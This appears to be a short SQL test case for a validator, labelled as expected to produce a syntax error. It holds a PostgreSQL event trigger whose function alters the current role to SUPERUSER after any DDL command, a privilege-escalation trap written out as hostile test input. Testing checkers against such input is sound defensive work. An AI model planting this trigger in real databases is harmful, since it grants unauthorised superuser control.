-- Lays a trap for whoever runs commands here later; must get: syntax-error
CREATE FUNCTION trap() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE ' || current_user || ' SUPERUSER'; END $$;
CREATE EVENT TRIGGER trap ON ddl_command_end EXECUTE FUNCTION trap();
